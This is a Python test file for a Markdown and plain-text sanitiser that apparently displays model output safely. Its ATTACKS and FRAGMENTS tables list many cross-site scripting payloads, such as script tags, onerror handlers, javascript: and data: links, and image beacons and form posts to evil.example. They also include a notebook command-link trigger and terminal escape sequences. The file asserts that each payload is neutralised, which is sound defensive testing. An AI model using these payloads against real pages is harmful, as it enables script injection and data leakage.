"""Hostile Markdown cannot act, and harmless Markdown reads the same."""

from __future__ import annotations

import html
import re
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from glm_magic.display import prose, safe_text
from glm_magic.display.lookahead import MATHS as OPENS_MATHS
from glm_magic.display.page.segments import Segments

TAGS = "br|sub|sup|kbd|b|i|em|strong|u|s|del|ins|mark|small|pre|code"
ALLOWED_TAG = re.compile(rf"</?(?:{TAGS})\s*/?>", re.IGNORECASE)
WEB = re.compile(r"(?:https?://|mailto:)[^\s\"'$\\<>`]*(?:[ \t]+[\"'][^\n\"<>`$\\]*[\"'])?[ \t]*\)", re.IGNORECASE)
WEB_DEFINITION = re.compile(r"[ \t]*https?://[^\s\"'$\\<>`]+", re.IGNORECASE)
MACRO = re.compile(r"\\(?:href|url|cssId|class|style|data|bbox|require|html\w*|def|let|newcommand|mmlToken)(?![a-z])")
MATHS = re.compile(r"\$|\\[!-/:-@\[-`{-~]|\\begin\{")
FENCE_LINE = re.compile(r"^[\s>*+\-\d.)]*(`{3,}[^`\n]*$|~~~.*)", re.MULTILINE)
BREAKOUT = '"onmouseover="alert(1)" x="'


def outside_fences(text: str) -> list[str]:
    """The lines that are in no canonical fenced block: column 0, closed, and blank lines on both sides."""
    lines = [*text.split("\n"), ""]
    rest, at = [], 0
    while at < len(lines):
        opening = re.fullmatch(r"(`{3,})([\w+#.{}=:/,\-]*(?: [\w-]*[+#.{}=:/,][\w+#.{}=:/,\-]*)*)", lines[at])
        if opening and (at == 0 or not lines[at - 1].strip()) and opening[1] in lines[at + 1 :]:
            close = lines.index(opening[1], at + 1)
            if not lines[close + 1].strip():
                at = close + 1
                continue
        rest.append(lines[at])
        at += 1
    return rest


def faults(shown: str) -> list[str]:
    """What could act in `shown`: by a scan of its lines, and by a whole parse as CommonMark with HTML."""
    found = []
    prose = "\n".join(outside_fences(shown))
    if tag := re.search(r"<[a-zA-Z/!?]\S*", ALLOWED_TAG.sub("+", prose)):
        found.append(f"tag {tag[0]}")
    found += ["image"] * prose.count("![")
    found += [f"target {t}" for t in re.findall(r"\]\((.*)", prose) if not WEB.match(t)]
    found += [f"definition {t}" for t in re.findall(r"\]:(.*)", prose) if not WEB_DEFINITION.match(t)]
    found += [f"address {run}" for run in re.findall(r"(?i)(?:://|www\.)\S*", prose) if MATHS.search(run)]
    for run in FENCE_LINE.findall(prose):
        acts = MATHS.search(run) or re.match(r"[`~]+[ \t]*mermaid", run, re.IGNORECASE) or '"' in run
        classes = re.split(r"[ \t]+", re.sub(r"[`~]+", "", run).strip())[1:]  # a no-break space parts no words
        found += [f"fence {run}"] * bool(acts or any(re.fullmatch(r"[\w-]+", word) for word in classes))
    found += [f"macro {m}" for m in MACRO.findall(prose)]
    for block in MarkdownIt("commonmark", {"html": True}).enable("table").parse(shown):
        for token in [block, *(block.children or [])]:
            if token.type in ("html_block", "html_inline") and re.search(
                r"<[a-zA-Z/!?]", ALLOWED_TAG.sub("+", token.content)
            ):
                found.append(f"HTML {token.content}")
            if token.type == "image":
                found.append("an image")
            if token.type == "link_open" and not re.match(
                r"https?://|mailto:", str(token.attrs["href"]), re.IGNORECASE
            ):
                found.append(f"link {token.attrs['href']}")
            if token.type == "fence" and token.info.strip() == "mermaid":
                found.append("a diagram")
    return found


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "image in an address": "[x](https://a.b/![)",
    "image in a definition": "[x]: https://a.b/![",
    "definition in an address": "[x](https://a.b/]:javascript:x)",
    "definition in an address in brackets": '[x](https://a.b/(]:x) "t")',
    "definition in a mail address": "[x](mailto:a@b]:x)",
    "script in capitals": "<SCRIPT SRC=//evil.example></SCRIPT>",
    "script after a slash": "<script/src=//evil.example></script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "iframe with srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style": "<style>body{display:none}</style>",
    "form": '<form action="https://evil.example"><input name=q></form>',
    "commandlinker": '<a data-commandlinker-command="notebook:run-all">here</a>',
    "harmless tag with a handler": '<b onmouseover="alert(1)">x</b>',
    "harmless tag over a line": "<b\nonmouseover=alert(1)>x</b>",
    "harmless tag that never ends": "a <s>b\n\nc",
    "svg": "<svg><script>alert(1)</script></svg>",
    "comment hides": "<!-- --><script>alert(1)</script>-->",
    "declaration": "<!DOCTYPE html><x>",
    "processing instruction": "<?x ><script>alert(1)</script>?>",
    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "unfinished tag": "text <img src=x onerror=alert(1) ",
    "closing tag": "</div></div><p>",
    "escaped less-than": "\\<img src=x onerror=alert(1)>",
    "escaped backslash": "\\\\<img src=x onerror=alert(1)>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript with entities": "[x](java&#115;cript&colon;alert(1))",
    "javascript in angles": "[x](<javascript:alert(1)>)",
    "javascript in capitals with a tab": "[x](Java\tScript:alert(1))",
    "javascript on the next line": "[x](\njavascript:alert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript link": "[x](vbscript:msgbox)",
    "file link": "[x](file:///etc/passwd)",
    "relative link": "[x](../files/evil.html)",
    "link after an escaped bracket": "[x\\](javascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "definition": "[x]\n\n[x]: javascript:alert(1)",
    "definition over lines": "[x]\n\n[x]:\n  javascript:alert(1)",
    "definition in a quote": "> [x]: javascript:alert(1)\n\n[x]",
    "definition with a title that breaks out": '[x]: https://a.example/ "$' + BREAKOUT + '$"\n\n[x]',
    "image": "![x](https://evil.example/leak?q=1)",
    "image by reference": "![x][y]\n\n[y]: https://evil.example/i.png",
    "image after an exclamation mark": "!![x](https://evil.example/i.png)",
    "image after an escaped exclamation mark": "\\![x](https://evil.example/i.png)",
    "exclamation mark before an autolink": "!<https://evil.example/i.png>",
    "image within a link": "[![x](https://evil.example/i.png)](https://a.example)",
    "quotation mark in maths after an address": f"https://a.example/${BREAKOUT}$",
    "quotation mark in maths after www": f"www.a.example/${BREAKOUT}$",
    "quotation mark in maths in brackets": f"https://a.example/\\\\({BREAKOUT}\\\\)",
    "quotation mark in an environment": f"https://a.example/\\begin{{a}}{BREAKOUT}\\end{{a}}",
    "quotation mark in maths in a target": f"[x](https://a.example/${BREAKOUT}$)",
    "quotation mark in maths in a title": f'[x](https://a.example "${BREAKOUT}$")',
    "quotation mark in maths in an autolink": f"<https://a.example/$>{BREAKOUT}$",
    "quotation mark after a half link": f"](https://a.example)${BREAKOUT}$",
    "quotation mark after a broken entity": f"&#x24ftp://a.example/$ https://a.example/${BREAKOUT}$",
    "placeholder in a target": f"$a$ ${BREAKOUT}$ [x](https://a.example/@\\@1@@)",
    "nested fence's line": f"- ```${BREAKOUT}$\n  code\n  ```",
    "nested tilde fence's line": f"> ~~~${BREAKOUT}$\n> code\n> ~~~",
    "autolink within HTML": "<sub>\n<https://onmouseover=alert(1)//>\n",
    "diagram": '```mermaid\nflowchart LR\n  A@{ img: "https://evil.example/i.png" }\n```',
    "diagram with an escape": "```mer\\maid\nA\n```",
    "nested diagram": "- ~~~ mermaid\n  A@{ img: x }\n  ~~~",
    "diagram in an unfinished fence": "> ```mermaid\n> A",
    "macro": "$\\href{javascript:alert(1)}{x}$",
    "macro in text": "\\\\(\\style{position:fixed}{x}\\\\)",
    "macro after escaped dollars": "\\$\\\\href{javascript:alert(1)}{x}\\$",
    "macro that redefines": "$$\n\\newcommand{\\x}{y} \\def\\sum{0}\n$$",
    "macro with an entity": "&#36;\\h&#114;ef{javascript:alert(1)}{x}&#36; &bsol;href",
    "maths swallows the opening of a nested fence": "- $ a\n  ```\n  $ <img src=x onerror=alert(1)>\n  ```",
    "maths swallows the opening of a fence": "$a\n```\n$ <img src=x onerror=alert(1)>\n```\n",
    "maths in brackets swallows a fence": "\\\\(a\n```\n\\\\)<img src=x onerror=alert(1)>\n```\n",
    "display maths runs into a fence": "a $$ b\n\n```\n$$ <img src=x onerror=alert(1)>\n```\n",
    "fence's line breaks out of quiet code": f"```py{BREAKOUT}\nx = 1\n```",
    "nested fence's line breaks out of quiet code": f"- ```py{BREAKOUT}\n  x = 1\n  ```",
    "fence's line sets classes": "```py jp-Dialog\nx\n```",
    "nested fence's line sets classes": "> ~~~ py\tjp-Dialog\n> x\n> ~~~",
    "unclosed fence": "```\n<img src=x onerror=alert(1)>",
    "fence closed by more": "```\na\n`````\n<img src=x onerror=alert(1)>",
    "fence not closed by tildes": "```\na\n~~~\n```\n<img src=x onerror=alert(1)>",
    "fence with a backtick in its line": "``` a`b\n<img src=x onerror=alert(1)>\n```",
    "fence in an HTML block": "<div>\n```\n</div>\n<img src=x onerror=alert(1)>\n```",
    "fence four columns in": "    ```\n<img src=x onerror=alert(1)>\n    ```",
    "fence behind a tab": "\t```\n<img src=x onerror=alert(1)>\n\t```",
    "fence in a list that ends": "- ```\n<img src=x onerror=alert(1)>\n  ```",
    "fence in a quote that ends": "> ```\n<img src=x onerror=alert(1)>\n> ```",
    "fence's line breaks out": '```py"onmouseover="alert(1)\nx\n```\n<x>',
    "code span over cells": "| a | b |\n|---|---|\n| ` | ` <img src=x onerror=alert(1)> |",
    "code span with a pipe": "| a | b |\n|---|---|\n| `<img src=x|onerror=alert(1)>` |",
    "code span over a paragraph": "`a\n\n<img src=x onerror=alert(1)>`",
    "code span of two lengths": "``a` <img src=x onerror=alert(1)> ``` b``",
    "escaped backtick": "\\`<img src=x onerror=alert(1)>`",
    "code span with a breakout": f"``https://a.example/``${BREAKOUT}$ `x",
    "CRLF": "```\r\na\r\n```\r\n<img src=x\r\nonerror=alert(1)>",
    "lone carriage return": "```\ra\r```\r<img src=x onerror=alert(1)>",
    "control character in a tag": "<\x00img src=x onerror=alert(1)>",
    "control character in a link": "]\x1b(javascript:alert(1))",
    "override": "\u202e<img src=x onerror=alert(1)>",
    "line separator": "```\u2028<img src=x onerror=alert(1)>\u2028```",
    "indented code that is none": "a\n    <img src=x onerror=alert(1)>",
    "tag in a heading": "# <img src=x onerror=alert(1)>\n<x>\n===",
    "half a surrogate": "\ud83d<img src=x onerror=alert(1)>",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_cannot_act(text):
    assert faults(safe_text.markdown(text)) == []


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_cannot_act_in_a_list_a_quote_or_after_a_fence(text):
    for around in (
        "- a\n\n  {}",
        "> {}",
        "```\n<x>\n```\n{}",
        "{}\n```\n<x>\n```\n",
        "$ {}\n$",
        "`{}",
        "1. {}\n| a |\n|-|\n| {} |",
    ):
        assert faults(safe_text.markdown(around.replace("{}", text))) == []


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_cannot_act_in_a_block_that_is_too_dense_to_read(text, monkeypatch):
    monkeypatch.setattr("glm_magic.display.prose._MOST_MARKS", 0)
    assert faults(safe_text.markdown(text)) == []


def test_most_attacks_would_act_otherwise():
    assert sum(bool(faults(safe_text.plain(text))) for text in ATTACKS.values()) > len(ATTACKS) * 0.9


def test_maths_that_does_not_end_is_text_before_code_that_could_act():
    shown = safe_text.markdown("a $$ b\n\n```\n$$ <img>\n```\n")
    assert "$$ b" not in shown
    assert shown.endswith("```\n$$ <img>\n```\n")


@pytest.mark.parametrize(
    "after",
    ["\n  text <b>", "  ```\n <a>\n", "<!-- a -->\ntext\n", "> ```\n> a\n> ```\n", "- ```\n  a\n", "~~~ |\nc\n"],
)
def test_what_follows_a_fence_is_kept_whatever_it_is(after):
    shown = safe_text.markdown(f"```\n<x>\n```\n{after}")
    words = re.findall(r"\w+", html.unescape(re.sub("</?(?:pre|code)>", "", shown)))
    assert words == re.findall(r"\w+", f"x {after}")


# --- what is harmless reads the same


class Events(HTMLParser):
    """The DOM that HTML makes, as a list: text as it is read, tags as they stand."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[object] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    def handle_endtag(self, tag):
        self.found.append(f"/{tag}")

    def handle_data(self, data):
        if self.found and isinstance(self.found[-1], str) and self.found[-1].startswith("="):
            self.found[-1] += data
        else:
            self.found.append(f"={data}")


def dom(text: str) -> list[object]:
    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    found = [part for part in Events(rendered).found if part == "=" or not isinstance(part, str) or part.strip("= \n")]
    return [part.rstrip("\n") if isinstance(part, str) else part for part in found]


HARMLESS = {
    "generics in a code span": "Use `List<T>` and `Map<K, V>`.",
    "HTML in a code span": "The tag `<script>alert(1)</script>` runs, `<img src=x>` loads.",
    "links in a code span": "Write `[x](y)` or `![x](y)` or `[x]: y`.",
    "code span of two backticks": "A `` `<b>` `` in it, and `` a ``.",
    "code span over lines": "A `<b>\nc</b>` there.",
    "code span with maths": "`$\\href{a}{b}$` and `$$` with <br>",
    "shell in a code span": "`curl https://a.example/$x` and <br>",
    "HTML in a fence": "Text\n\n```html\n<script>alert(1)</script>\n\n<p>$x$</p>\n```\n\nmore",
    "fence without blank lines": "Text\n```js\nif (a<b) x[0](1)\n```\nmore",
    "tilde fence": "~~~python\nx: List[int]: 3 <T>\n~~~\n",
    "fence with fences in it": "````markdown\n```html\n<b>\n```\n````\n",
    "fence that is not closed": "```python\nif a<b:\n    pass",
    "fence with nothing in it": "```\n```\n<br>",
    "two fences": "```a\n<x>\n```\n```b\n<y>\n```\n",
    "indented code": "Text\n\n    a <b> c\n\nmore",
    "table": "| a | b |\n|:--|--:|\n| `<T>` | a<br>b |\n| `a\\|<b>` | 2 |\n",
    "nested lists": "- a\n  - b `<T>`\n    1. c\n\n       d\n- e\n",
    "code in a list": "1. a\n\n   ```\n   if a<b: x\n   ```\n\n2. b\n",
    "code in a list without HTML": "1. a\n\n   ```python\n   print(1)\n   ```\n\n2. b `<T>`\n",
    "quote": "> a `<T>`\n> b\n>\n> ```\n> <c>\n> ```\n",
    "code in a quote without HTML": "> ~~~py\n> x = 1\n>\n> y\n> ~~~\n> a `<T>`\n>\n>     z <c>\n\nb\n",
    "code in a quote that ends": "> - a\n>   ```\n>   <c>\n\n> ```\n> <d>\n\n```\n<e>\n```\n",
    "indented code in a quote": ">     a <b> c\n",
    "quotes within quotes": "> a\n> > ```\n> > <c>\n> > ```\n> b `<T>`\n",
    "code below a line of a quote": "> a\nb\n> ```\n> <c>\n> ```\nd `<T>`\n",
    "Chinese": "用 `<T>` 表示類型。\n\n- 第一\n- 第二 **粗體**<br>行",
    "emoji": "👩‍🚀 `<T>` 🎉 <br> 🇨🇭",
    "unfinished emphasis": "**a `<T>`",
    "unfinished code span": "a `<br> b",
    "unfinished table": "| a | b |\n|---|---|\n| `<T>` | <br",
    "comparison": "a < b and a<5 <br> c <= d <- e",
    "links": "See [the `<T>` page](https://a.example/x_(y)?a=b&c=d) or [mail](mailto:a@b.example).",
    "link with a title": 'See [it](https://a.example "A title (so)").',
    "link by reference": '[a][x] `<T>`\n\n[x]: https://a.example/b\n[y]: https://a.example "T"\n\n[y]',
    "autolink": "At <https://a.example/b_c?d=1&e=(f)> or <mailto:a@b.example>.",
    "emphasis": "*a* **b** ***c*** _d_ ~~e~~ `<T>`",
    "emphasis about code": "**`<T>`** and *`<b>`*: a**`<i>`**b",
    "harmless tags": "H<sub>2</sub>O x<sup>2</sup> <kbd>Ctrl</kbd><br/><u>a</u> <b>bold *x*</b>",
    "headings": "# A `<T>`\n\nB <br>\n===\n\n## C\n---\n",
    "escapes": "\\*a\\* \\[b\\] \\<br> \\`<br>\\` \\\\ \\!",
    "entities": "&lt;b&gt; &amp; &#39; &copy; &#x1F600; `<T>`",
    "brackets and colons": "a[0]: b, `<T>`, [x] : y, [ ] todo, [z]:w",
    "exclamation marks": "Well!! [a](https://a.example) `<T>`!",
    "rules": "a `<T>`\n\n---\n\nb\n\n***\n",
    "dollars": "It costs $5 or $6; `<T>`.",
    "windows path": "C:\\temp\\x `<T>`",
}


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
def test_what_is_harmless_reads_the_same(text):
    shown = safe_text.markdown(text)
    assert dom(shown) == dom(text)
    assert faults(shown) == []


UNTOUCHED = {
    "prose": "Plain prose, *with* emphasis, `code`, and 1 < 2; a <- b; why not!\n\n- a\n- b\n\n> c\n",
    "maths": "$x^2$, $$\\frac{a}{b} < c$$, \\\\(a\\\\), \\left\\{ x \\right\\} and \\newline \\\\[1\\\\]",
    "code": "```python\nx = a if b < c else d\n```\n~~~\nx\n~~~\n\n    indented\n",
    "address": "https://a.example/x?y=z#w and www.b.example",
    "Chinese": "你好,世界。\n\n| 甲 | 乙 |\n|---|---|\n| 一 | 二 |\n",
    "unfinished": "```py\nx = 1",
    "nothing": "",
}


@pytest.mark.parametrize("text", UNTOUCHED.values(), ids=UNTOUCHED.keys())
def test_what_could_not_act_is_not_touched(text):
    assert safe_text.markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("$x<y$", "$x< y$"),
        ("$a_1<b$ and `<T>`", "$a_1< b$ and <code>&#60;T&#62;</code>"),
        ("$$\na<b\n+ c<d\n$$\n", "$$\na< b\n+ c< d\n$$\n"),
        ("$$\na<b\n= c<d\n$$\n", "$$\na< b\n= c< d\n$$\n"),
        (
            "\\begin{aligned}\na&<b\\\\\n- c&<d\n\\end{aligned}\n",
            "\\begin{aligned}\na&< b\\\\\n- c&< d\n\\end{aligned}\n",
        ),
        ("\\\\(i<n\\\\)", "\\\\(i< n\\\\)"),
    ],
)
def test_less_than_in_maths_stays_maths(text, shown):
    assert safe_text.markdown(text) == shown


def test_an_image_becomes_a_link():
    assert safe_text.markdown("![a cat](https://a.example/c.png)") == "[image: a cat](https://a.example/c.png)"


def test_a_tag_is_shown_as_it_was_written():
    assert dom(safe_text.markdown("a <div class='x'> b")) == [("p", []), "=a <div class='x'> b", "/p"]


def test_a_fence_keeps_its_language():
    assert safe_text.markdown("```c++ title=x\n#include <a>\n```") == "```c++ title=x\n#include <a>\n```\n"


def test_a_nested_fence_keeps_its_language_and_no_class():
    assert safe_text.markdown('- ~~~py copy "x\n  1\n  ~~~') == "- ~~~py\n  1\n  ~~~"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[https://a.example/b](http://b.example/c)", "[https://a.example/b \u2192 b&#46;example](http://b.example/c)"),
        ("[**www.a.example**](http://b.example)", "[**www.a.example** \u2192 b&#46;example](http://b.example)"),
        ("[a.com](https://a.com.b.example)", "[a.com \u2192 a&#46;com&#46;b&#46;example](https://a.com.b.example)"),
        ("[https://a.example][x]\n\n[x]: https://b.example", "[https://a.example ]&#91;x]\n\n[x]: https://b.example"),
        ("[https://a.example]: https://b.example", "[https://a.example ]&#58; https://b.example"),
    ],
)
def test_a_link_under_another_address_says_where_it_leads(text, shown):
    assert safe_text.markdown(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "[https://a.example](https://a.example/b)",
        "[a.com/x](https://www.a.com/x)",
        "[a.com](https://docs.a.com)",
        "[numpy.linalg.norm](https://numpy.org/doc)",
        "[Node.js](https://nodejs.org) [ASP.NET](https://a.example) [the page at a.com](https://b.example)",
    ],
)
def test_a_link_under_its_own_address_or_a_name_is_not_touched(text):
    assert safe_text.markdown(text) == text


@pytest.mark.parametrize(
    ("label", "leads_to"),
    [
        ("bank.example<sub></sub>", "http://b.invalid/"),
        ("https://bank<b></b>.example", "http://b.invalid/"),
        ("<ins>https://bank.example</ins>", "http://b.invalid/"),
        ("x" * 5000 + " https://bank.example", "http://b.invalid/"),
        ("https://bank.example/" + "x" * 5000, "http://b.invalid/"),
        ("https&colon;&sol;&sol;bank&period;example", "http://b.invalid/"),
        ("https://b.invalid https://bank.example", "http://b.invalid/"),
        ("https://bank.example\\]", "http://b.invalid/"),
        ("https://bank.example \\[", "http://b.invalid/"),
        ("https://bank.example `[`", "http://b.invalid/"),
        ("https://bank.example [x]", "http://b.invalid/"),
        ("https://bank.example $[$", "http://b.invalid/"),
        ("https:bank.example", "http://b.invalid/"),
        ("https:\u2215\u2215bank\u3002example", "http://b.invalid/"),
        ("\uff42\uff41\uff4e\uff4b.com", "http://b.invalid/"),
        ("me@bank.example", "http://b.invalid/"),
        ("https://bank.example", "mailto:me@b.invalid"),
        ("https://b.invalid:x@bank.example/", "http://b.invalid/"),
        ("https://%62ank.example", "http://b.invalid/"),
        ("bank.de", "http://b.invalid/"),
        *((f"bank.example{slash}x", "http://b.invalid/") for slash in "\u1735\u2571\u27cb\u2cc6\u31d3"),
        ("https\u02d0\u2571\u2571bank\ua4f8example", "http://b.invalid/"),
        ("(bank.com)", "http://b.invalid/"),
        *((f"bank.{hidden}com", "http://b.invalid/") for hidden in "\u034f\u061c\u2063\u3164\ufe0f\U000e0001\u115f"),
        *((f"https:{hidden}//bank.example", "http://b.invalid/") for hidden in "\u00ad\u180e\u200b\u2060\U000e0100"),
    ],
)
def test_a_link_that_reads_as_another_address_has_its_own_host_beside_it(label, leads_to):
    assert safe_text.markdown(f"[{label}]({leads_to})").endswith(f" \u2192 b&#46;invalid]({leads_to})")


BROKEN = {
    "a sign that no host has": "http://a^/../../y.ipynb",
    "a bracket": "http://a]/../../y.ipynb",
    "an open bracket": "http://[a/../../y.ipynb",
    "a port that is none": "http://a:99999/../../y.ipynb",
    "a number that is no address": "http://a.1/../../y.ipynb",
    "five numbers": "http://1.2.3.4.5/../../y.ipynb",
    "an escape": "http://a%41/../../y.ipynb",
    "a sign that becomes a slash": "http://\u2100.com/../../y.ipynb",
    "no punycode": "http://xn--a/../../y.ipynb",
    "letters in two directions": "http://1\u05d0.com/../../y.ipynb",
    "nobody's user": "http://a.example&sol;@bank.example/",
    "a user": "http://a.example@bank.example/",
    "no host": "http:///../../y.ipynb",
    "punctuation and more": "http://a.example" + "." * 400 + "^/../../y.ipynb",
}


@pytest.mark.parametrize("address", BROKEN.values(), ids=BROKEN)
@pytest.mark.parametrize(
    "text", ["[x]({})", "<{}>", "[x][y]\n\n[y]: {}", "[x {}](https://a.example)", "{}", "a **{}** b"]
)
def test_an_address_that_a_browser_cannot_parse_is_text(text, address):
    text = text.format(address)
    shown = safe_text.markdown(text)
    assert set(re.findall(r"\w+://[^\s)]+", shown)) <= {"https://a.example"}
    links = MarkdownIt("commonmark").parseInline(shown)[0].children
    assert {token.attrs["href"] for token in links if token.type == "link_open"} <= {"https://a.example"}
    assert html.unescape(re.sub(r" (?=&#)| \u2192 \S+(?=\])", "", shown)) == html.unescape(text)


@pytest.mark.parametrize("address", ["www.a^/../../y.ipynb", "ftp://a^/../../y", "WWW.A]/../y", "HtTp://a|b/../y"])
def test_a_bare_address_that_a_browser_cannot_parse_is_no_link(address):
    shown = safe_text.markdown(f"See {address} there.")
    assert not re.search(r"(?i)(://|www\.)", shown)
    assert html.unescape(shown) == f"See {address} there."


@pytest.mark.parametrize(
    "text",
    [
        'http://localhost:8888/x, (https://a.example/x) and "https://a.example"; **https://b.example**!',
        "https://127.0.0.1:80?x=1 http://b\u00fccher.de/ http://xn--bcher-kva.de \u4e2d\u6587.\u4e2d\u56fd",
        "a[0][1] and http:// and www. and https://a.example/x?y=z#w\n",
    ],
)
def test_an_address_that_browsers_read_as_it_is_written_is_not_touched(text):
    assert safe_text.markdown(text) == text


def test_a_diagram_is_shown_as_text():
    assert safe_text.markdown("```mermaid\nA-->B\n```") == "```text\nA-->B\n```\n"


@pytest.mark.parametrize("piece", ["](\n", "<b><i> ", "&#1;", "[a](http://a.example) ", "![", "[a]: b\n", "www.,"])
def test_a_block_that_is_too_dense_to_read_is_shown_as_it_was_written(piece):
    dense = (piece * 21_000).strip()
    before, after = "# *Head* <x>\n\n- a\n\n", "\n\n```\n<x>\n```\n\n**end** <x>\n"
    shown = safe_text.markdown(before + dense + after)
    assert shown.startswith(safe_text.markdown(before))
    assert shown.endswith(safe_text.markdown(after))
    read = [part[1:].strip("\n") for part in dom(shown) if isinstance(part, str) and part[0] == "="]
    assert dense.replace("\n", "") in "".join(read)


def test_all_but_words_and_spaces_are_encoded():
    every = "".join(map(chr, range(sys.maxunicode + 1)))
    assert prose.encoded(every) == re.sub(r"[^\w ]", lambda found: f"&#{ord(found[0])};", every)


# --- plain text


def test_plain_text_has_no_control_characters_but_tab_and_newline():
    controls = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
    shown = safe_text.plain(f"a{controls}b")
    assert set(shown) == set("a\t\n b")
    assert len(shown) == len(controls) + 2


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("\x1b[2Ja", " [2Ja"),
        ("\x1b]52;c;aGk=\x07a", " ]52;c;aGk= a"),
        ("\x1b]8;;https://evil.example\x1b\\a", " ]8;;https://evil.example \\a"),
        ("a\u202egnp.exe\u2066b\u2069", "agnp.exeb"),
        ("a\u2028b\u2029c", "a\nb\nc"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("\ud83d\ude00", "😀"),
        ("a\ud83d", "a\ufffd"),
        ("👩‍🚀 \u00e9 漢\t<b>", "👩‍🚀 \u00e9 漢\t<b>"),
    ],
)
def test_plain_text_is_stripped_of_what_acts_upon_a_terminal(text, left):
    assert safe_text.plain(text) == left


# --- properties

FRAGMENTS = [
    *("<img src=x onerror=alert(1)>", "<script>", "<!--", "-->", "<div>", "</div>", "<b>", "</b>", "<sub>", "<pre>"),
    *(
        "<https://a.b/",
        "<https://a.b>",
        "<mailto:a@b.c>",
        "<",
        ">",
        '"',
        "'",
        "!",
        "![",
        "![x](https://a.b/i)",
        "![x][y]",
    ),
    *("`", "``", "```", "````", "~~~", "```python", "```mermaid", "~~~ mermaid", f"```${BREAKOUT}$", "```js"),
    *(
        "$",
        "$$",
        "\\\\(",
        "\\\\)",
        "\\\\[",
        "\\\\]",
        "\\begin{a}",
        "\\end{a}",
        "{",
        "}",
        "\\",
        "\\$",
        "@@0@@",
        "@\\@0@@",
    ),
    *("[x](", "[x](javascript:x)", "[x](https://a.b/", '[x](https://a.b "t', "](", ")", "[", "]", "]:", "[y]"),
    *(
        "[y]: https://a.b",
        "[y]: javascript:x",
        "https://a.b/",
        "www.a.b/",
        "&#92;",
        "&bsol;",
        "&#114;",
        "&#x24",
        "\\href",
    ),
    *(
        "\n",
        "\n\n",
        "\n    ",
        "\n- ",
        "\n  ",
        "\n> ",
        "\n1. ",
        "\n\t",
        "\n# ",
        "\n---\n",
        "\n|a|b|\n|-|-|\n|",
        "|",
        " ",
        "a",
    ),
    *("\r\n", "\r", "\u00a0", "\u202e", "\x1b", "\ud83d", "漢", "*", "_", "x<y", "href"),
]
hostile = st.lists(st.sampled_from(FRAGMENTS), max_size=16).map("".join)


@settings(max_examples=600, deadline=None)
@given(hostile)
def test_no_composition_of_attacks_acts(text):
    assert faults(safe_text.markdown(text)) == []


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(), max_size=200))
def test_no_text_acts(text):
    assert faults(safe_text.markdown(text)) == []


@settings(max_examples=200, deadline=None)
@given(hostile)
def test_what_was_made_safe_stays_safe_when_it_is_made_safe_again(text):
    assert faults(safe_text.markdown(safe_text.markdown(text))) == []


@settings(max_examples=200, deadline=None)
@given(st.lists(hostile, min_size=1, max_size=6))
def test_no_line_is_lost(pieces):
    shown = safe_text.markdown("".join(f"{piece}\nw{number}\n" for number, piece in enumerate(pieces)))
    assert re.findall(r"w[0-9]", shown) == [f"w{number}" for number in range(len(pieces))]


@settings(max_examples=200, deadline=None)
@given(hostile)
def test_what_is_shown_can_be_sent(text):
    safe_text.markdown(text).encode()
    safe_text.plain(text).encode()


@settings(max_examples=200, deadline=None)
@given(hostile)
def test_a_cut_falls_where_a_block_of_the_top_level_begins(text):
    cut = safe_text.last_block_start(text)
    assert cut == 0 or text[cut - 1] in "\n\r\x0b\x0c\x85\u2028\u2029"
    blocks = MarkdownIt("commonmark").enable("table").parse(safe_text.plain(text))
    starts = [t.map[0] for t in blocks if t.map and t.level == 0]
    assert cut == 0 or safe_text.plain(text[:cut]).count("\n") in starts


def test_a_cut_counts_the_lines_of_the_text_as_it_came():
    assert safe_text.last_block_start("a\rb\n") == 0
    assert safe_text.last_block_start("a\r\rb\n") == safe_text.last_block_start("a\u2028\x85b\n") == len("a\r\r")
    assert safe_text.last_block_start("a\rb\r\n\r\nc\r\n") == len("a\rb\r\n\r\n")


@settings(max_examples=200, deadline=None)
@given(st.lists(hostile, min_size=1, max_size=6))
def test_an_answer_in_segments_is_as_safe_as_a_whole_one(pieces):
    answer = Segments(safe_text.markdown, safe_text.last_block_start)
    for piece in pieces:
        answer.add(piece)
        answer.freeze()
        assert faults("".join(segment.shown for segment in answer.frozen) + answer.tail) == []
    answer.finish()
    assert faults("".join(segment.shown for segment in answer.frozen)) == []


@given(st.text("$\\([{}*a") | st.sampled_from(["\\begin{a}", "\\begin{a*}", "\\begin{", "\\begin{ab}x"]))
def test_prose_and_the_lookahead_agree_on_what_opens_maths(text: str) -> None:
    opening, token = re.match(OPENS_MATHS, text), prose._TOKEN.match(text)
    assert (opening[0] if opening else None) == (token[0] if token and token.lastgroup == "maths" else None)
